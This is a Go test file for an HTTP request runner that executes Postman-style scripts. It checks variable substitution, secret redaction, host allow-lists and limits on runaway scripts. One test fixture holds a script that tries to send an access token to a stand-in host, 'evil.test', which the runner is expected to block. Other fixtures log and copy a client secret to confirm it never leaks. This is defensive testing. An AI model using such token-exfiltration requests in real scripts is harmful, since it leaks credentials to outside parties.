package runner_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/hgrun/hgrun/runner"
)

func TestAPrerequestScriptChangesWhatIsSent(t *testing.T) {
	t.Parallel()
	all, srv := play(t, &runner.Runner{}, `
auth: {bearer: "tok-{{who}}"}
headers: {X-Kept: "{{who}}"}
requests:
  - name: Changed
    request: POST http://api.test/{{who}}?a=1
    text: old
    query: {b: "{{who}}"}
    script:
      prerequest: |
        pm.variables.set("who", "eve");
        pm.request.method = "PUT";
        pm.request.url.query.add({key: "c", value: "{{who}}"});
        pm.request.headers.upsert({key: "X-Added", value: "for {{who}}"});
        pm.request.body.update({mode: "raw", raw: JSON.stringify({to: "{{who}}"}), options: {raw: {language: "json"}}});
  - name: Looked at
    request: POST http://api.test/b
    json: {id: "{{n}}"}
    variables: {n: 5}
    script: {prerequest: "pm.variables.set('seen', pm.request.url + ' ' + JSON.parse(pm.request.body.raw).id.length)"}
  - name: Form
    request: POST http://api.test/{{seen | length}}
    form: {a: "1", b: "2"}
    script: {prerequest: "pm.request.body.urlencoded.upsert({key: 'b', value: '{{who}} & co'})"}
`, map[string]string{"who": "ann"})
	same(t, all.story(), "Changed: passed\nLooked at: passed\nForm: passed")
	same(t, strings.Join(srv.lines(), "\n"), `
PUT http://api.test/eve?a=1&b=eve&c=eve
POST http://api.test/b
POST http://api.test/19`)
	first := srv.seen[0]
	same(t, fmt.Sprint(first.Body, " ", first.Header["Content-Type"], first.Header["X-Added"], first.Header["X-Kept"], first.Header["Authorization"]),
		`{"to":"eve"} [application/json] [for eve] [eve] [Bearer tok-eve]`)
	same(t, srv.seen[1].Body, `{"id":5}`)
	same(t, srv.seen[2].Body, "a=1&b=eve+%26+co")
}

func TestANameWithoutAValueIsNeverSentLiterally(t *testing.T) {
	t.Parallel()
	all, srv := play(t, &runner.Runner{}, `
requests:
  - name: Nothing
    request: GET http://api.test/a
    script: {prerequest: "pm.request.headers.add({key: 'X', value: '{{nowhere}}'})"}
  - name: Sends
    request: GET http://api.test/b
    script: {test: "pm.sendRequest('http://api.test/{{nowhere}}', (err) => pm.test('told', () => pm.expect(err.message).to.include('nowhere')))"}
`, nil)
	same(t, all.story(), `
Nothing: errored
  chain.yaml:4:14 ConfigError variable "nowhere" is not defined
pm.sendRequest: errored
  chain.yaml:6:5 ConfigError variable "nowhere" is not defined
Sends: passed`)
	same(t, strings.Join(srv.lines(), "\n"), "GET http://api.test/b")
}

func TestRequestsOfScriptsAreResultsOfTheirOwn(t *testing.T) {
	t.Parallel()
	srv := serve(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/login" {
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: "cookie-value-1", Path: "/"})
		}
		fmt.Fprintf(w, `{"access_token": "fetched-by-a-script", "cookie": %q}`, r.Header.Get("Cookie"))
	})
	c := load(t, `
requests:
  - name: Read
    request: GET http://api.test/read
    headers: {Authorization: "Bearer {{accessToken}}"}
    script:
      prerequest: |
        const answer = await pm.sendRequest({url: "http://api.test/login", method: "POST", body: {mode: "urlencoded", urlencoded: [{key: "user", value: "ann"}]}});
        pm.environment.set("accessToken", answer.json().access_token);
        console.log("the token is", answer.json().access_token);
      test: |
        pm.test("cookie", () => pm.expect(pm.cookies.get("sid")).to.equal("cookie-value-1"));
        pm.test("sent", () => pm.expect(pm.response.json().cookie).to.equal("sid=cookie-value-1"));
        pm.sendRequest("http://nowhere.test/", (err) => { pm.test("no answer", () => pm.expect(err).to.be.ok) });
  - name: Elsewhere
    request: GET http://api.test/read
    script: {test: "pm.sendRequest('http://evil.test/?t=' + pm.environment.get('accessToken'), () => {})"}
`)
	all := run(context.Background(), &runner.Runner{Transport: srv, Detail: true}, c, environment(map[string]string{}, nil, "api.test", "nowhere.test"))
	same(t, all.story(), `
pm.sendRequest POST http://api.test/login: passed
pm.sendRequest GET http://nowhere.test/: skipped (no answer, which the script was told: no such host nowhere.test)
Read: passed
pm.sendRequest GET http://evil.test/?t=‹access_token sha256:184c53de›: errored
  chain.yaml:15:5 ConfigError nothing sent: host evil.test is not in hosts: of environment test (api.test, nowhere.test); a secret would leave for it; the URL holds ‹access_token sha256:184c53de›
Elsewhere: passed`)
	if got := srv.seen[1].Header.Get("Authorization"); got != "Bearer fetched-by-a-script" {
		t.Errorf("got Authorization %q", got)
	}
	if text := all.text(t); strings.Contains(text, "fetched-by-a-script") || strings.Contains(text, "cookie-value-1") {
		t.Errorf("an event holds a secret:\n%s", text)
	}
}

func TestScriptsLeakNothing(t *testing.T) {
	t.Parallel()
	c := load(t, `
requests:
  - name: Set
    request: GET http://api.test/a
    script:
      test: |
        const secret = pm.environment.get("client_secret");
        console.log(secret, btoa(secret), {nested: [secret]});
        pm.environment.set("copy", "prefix-" + secret);
        pm.globals.set("apiKey", "from-nowhere-known");
        pm.test("with " + secret, () => pm.expect(secret).to.equal("x"));
        throw new Error("thrown with " + secret);
  - name: Use
    request: GET http://api.test/{{copy}}?k={{apiKey}}
    script: {test: "console.warn(pm.variables.get('copy'), pm.variables.get('apiKey')); pm.test('no', () => pm.expect(pm.variables.get('apiKey')).to.equal(''))"}
`)
	all := run(context.Background(), &runner.Runner{Transport: serve(records), Detail: true}, c, environment(map[string]string{}, map[string]string{"client_secret": "s3cret-value-of-a-client"}))
	text := all.text(t)
	for _, secret := range []string{"s3cret-value-of-a-client", "czNjcmV0LXZhbHVlLW9mLWEtY2xpZW50", "from-nowhere-known"} {
		if strings.Contains(text, secret) {
			t.Errorf("an event holds %s:\n%s", secret, text)
		}
	}
	if got := len(all.results[0].Console); got != 1 {
		t.Errorf("got %d lines on the console, want 1", got)
	}
}

func TestScriptsThatNeverEndAreStoppedAndTheRunGoesOn(t *testing.T) {
	t.Parallel()
	all, _ := play(t, &runner.Runner{Scripts: runner.Scripts{ScriptTime: time.Second}}, `
requests:
  - name: Loop
    request: GET http://api.test/a
    script: {test: "pm.test('kept', () => {}); for (;;) {}"}
  - name: After
    request: GET http://api.test/a
    script: {test: "pm.test('fine', () => {})"}
`, nil)
	same(t, all.story(), `
Loop: errored
  chain.yaml:5:20 ScriptError the script was stopped: it ran for more than 1s
After: passed`)
	same(t, fmt.Sprint(len(all.results[0].Tests), len(all.results[1].Tests)), "1 1")
}

func TestScriptsThatTakeAllMemoryAreStoppedAndTheRunGoesOn(t *testing.T) {
	t.Parallel()
	all, srv := play(t, &runner.Runner{Scripts: runner.Scripts{ScriptTime: time.Minute}}, `
requests:
  - name: Memory
    request: GET http://api.test/a
    script: {prerequest: "const a = []; for (;;) a.push('x'.repeat(1 << 20))"}
  - name: After
    request: GET http://api.test/b
    script: {test: "pm.test('fine', () => {})"}
`, nil)
	same(t, all.story(), `
Memory: errored
  chain.yaml:5:26 ScriptError out of memory: all that the scripts hold takes more than 128 MiB
After: passed`)
	same(t, strings.Join(srv.lines(), "\n"), "GET http://api.test/b")
}

func TestTimersOfScriptsTakeNoRealTime(t *testing.T) {
	t.Parallel()
	synctest.Test(t, func(t *testing.T) {
		begun := time.Now()
		all, _ := play(t, &runner.Runner{}, `
requests:
  - name: Waits
    request: GET http://api.test/a
    script: {test: "setTimeout(() => pm.test('waited', () => {}), 60000)"}
`, nil)
		same(t, all.story()+fmt.Sprint(len(all.results[0].Tests), time.Since(begun).Round(time.Second)), "Waits: passed\n1 1m0s")
	})
}
